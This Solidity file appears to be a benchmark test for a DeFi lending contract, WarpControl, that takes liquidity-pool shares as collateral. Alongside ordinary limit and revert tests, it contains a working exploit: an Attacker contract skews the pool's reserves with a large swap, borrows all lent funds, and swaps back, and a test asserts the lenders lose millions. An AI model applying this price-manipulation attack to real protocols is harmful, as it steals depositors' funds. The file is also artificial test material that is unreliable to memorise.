pragma solidity 0.5.17;

import "./WarpControl.sol";

// assay-canary-5a9c3a88-3a94-436c-b216-6b628e66ee1e

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        require(balanceOf[msg.sender] >= amount, "balance");
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        require(balanceOf[from] >= amount && allowance[from][msg.sender] >= amount, "allowance");
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Twap {
    mapping(address => uint256) public consult;
    address private reporter = msg.sender;

    function report(address token, uint256 price) external {
        require(msg.sender == reporter, "reporter only");
        consult[token] = price;
    }
}

/// Ether and dollars along a constant product, without a fee.
contract Pair is Token {
    Token public weth;
    Token public dai;
    uint256 public totalSupply = 100000e18;

    constructor(Token weth_, Token dai_) public {
        weth = weth_;
        dai = dai_;
    }

    function token0() external view returns (address) {
        return address(weth);
    }

    function token1() external view returns (address) {
        return address(dai);
    }

    function getReserves() public view returns (uint256, uint256) {
        return (weth.balanceOf(address(this)), dai.balanceOf(address(this)));
    }

    function swap(Token from, Token to, uint256 amount) external {
        require(from != to && (from == weth || from == dai) && (to == weth || to == dai), "tokens");
        uint256 before = from.balanceOf(address(this));
        uint256 out = to.balanceOf(address(this)) * amount / (before + amount);
        require(from.transferFrom(msg.sender, address(this), amount) && to.transfer(msg.sender, out), "swap");
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ANA = address(0xA9A);
    address constant BEN = address(0xBE9);

    Token internal usdc;
    Token internal weth;
    Token internal dai;
    Twap internal twap;
    Pair internal pair;
    UniswapLPOracle internal oracle;
    WarpControl internal control;
    Attacker internal thief;

    function setUp() public {
        usdc = new Token();
        weth = new Token();
        dai = new Token();
        twap = new Twap();
        twap.report(address(weth), 600e18);
        twap.report(address(dai), 1e18);
        pair = new Pair(weth, dai);
        weth.mint(address(pair), 10000e18);
        dai.mint(address(pair), 6000000e18);
        oracle = new UniswapLPOracle(ITwap(address(twap)));
        control = new WarpControl(IToken(address(usdc)), IUniswapV2Pair(address(pair)), oracle, 1000000e18);
        usdc.mint(ANA, 7700000e18);
        vm.startPrank(ANA);
        usdc.approve(address(control), uint256(-1));
        control.lendSC(7700000e18);
        vm.stopPrank();
        pair.mint(BEN, 10000e18);
        thief = new Attacker(control, pair, usdc, weth, dai);
        pair.mint(address(thief), 20000e18);
        weth.mint(address(thief), 90000e18);
    }

    function test_Regular() public {
        require(oracle.getUnderlyingPrice(IUniswapV2Pair(address(pair))) == 120e18, "price of a share");
        require(oracle.depth(IUniswapV2Pair(address(pair))) == 6000000e18, "depth");
        vm.startPrank(BEN);
        pair.approve(address(control), uint256(-1));
        control.provideCollateral(10000e18);
        require(control.getBorrowLimit(BEN) == 800000e18, "two thirds");
        control.borrowSC(800000e18);
        usdc.approve(address(control), uint256(-1));
        control.repaySC(700000e18);
        control.withdrawCollateral(8000e18);
        require(pair.balanceOf(BEN) == 8000e18 && usdc.balanceOf(BEN) == 100000e18, "some back");
        vm.stopPrank();
        vm.prank(ANA);
        control.unlendSC(1000000e18);
        require(usdc.balanceOf(ANA) == 1000000e18 && control.lent(ANA) == 6700000e18, "unlent");
    }

    function test_RefusesBeyondLimits() public {
        vm.startPrank(BEN);
        pair.approve(address(control), uint256(-1));
        control.provideCollateral(10000e18);
        vm.expectRevert("limit");
        control.borrowSC(800001e18);
        control.borrowSC(800000e18);
        vm.expectRevert("collateral needed");
        control.withdrawCollateral(1e18);
        vm.expectRevert("sub");
        control.repaySC(800001e18);
        vm.expectRevert("sub");
        control.withdrawCollateral(10001e18);
        vm.expectRevert("sub");
        control.unlendSC(1);
        vm.stopPrank();
    }

    function test_RefusesSmallPools() public {
        twap.report(address(weth), 6e18);
        vm.expectRevert("pool too small");
        control.borrowSC(0);
    }

    function test_RefusesSumsBeyondAWord() public {
        vm.startPrank(ANA);
        vm.expectRevert("add");
        control.lendSC(uint256(-1));
        vm.stopPrank();
    }

    function test_RefusesPricesBeyondAWord() public {
        twap.report(address(weth), uint256(-1));
        vm.expectRevert("mul");
        oracle.sides(IUniswapV2Pair(address(pair)));
    }

    function test_RefusesWhatDoesNotMove() public {
        usdc.quieten();
        pair.quieten();
        vm.expectRevert("coins not received");
        control.lendSC(0);
        vm.expectRevert("coins not sent");
        control.unlendSC(0);
        vm.expectRevert("shares not received");
        control.provideCollateral(0);
        vm.expectRevert("shares not sent");
        control.withdrawCollateral(0);
        vm.expectRevert("coins not sent");
        control.borrowSC(0);
        vm.expectRevert("coins not received");
        control.repaySC(0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = lendersCanGet();
        exploit();
        require(lendersCanGet() + 5000000e18 <= before, "nothing lost");
    }

    /// Coins that are there, and what the collateral is worth however the pool was traded.
    function lendersCanGet() public view returns (uint256) {
        (uint256 a, uint256 b) = pair.getReserves();
        uint256 k = root(a / 1e9 * 600 * (b / 1e9)) * 1e9;
        return usdc.balanceOf(address(control)) + pair.balanceOf(address(control)) * 2 * (k / 1e9) / (pair.totalSupply() / 1e9);
    }

    function root(uint256 y) internal pure returns (uint256 z) {
        z = y;
        uint256 x = y / 2 + 1;
        while (x < z) {
            z = x;
            x = (y / x + x) / 2;
        }
    }

    function target() public view returns (address) {
        return address(control);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Trades the pool out of balance for the time of a loan.
contract Attacker {
    WarpControl internal control;
    Pair internal pair;
    Token internal usdc;
    Token internal weth;
    Token internal dai;

    constructor(WarpControl control_, Pair pair_, Token usdc_, Token weth_, Token dai_) public {
        control = control_;
        pair = pair_;
        usdc = usdc_;
        weth = weth_;
        dai = dai_;
    }

    function run() external {
        pair.approve(address(control), uint256(-1));
        control.provideCollateral(20000e18);
        weth.approve(address(pair), uint256(-1));
        dai.approve(address(pair), uint256(-1));
        pair.swap(weth, dai, 90000e18);
        control.borrowSC(usdc.balanceOf(address(control)));
        pair.swap(dai, weth, dai.balanceOf(address(this)));
    }
}
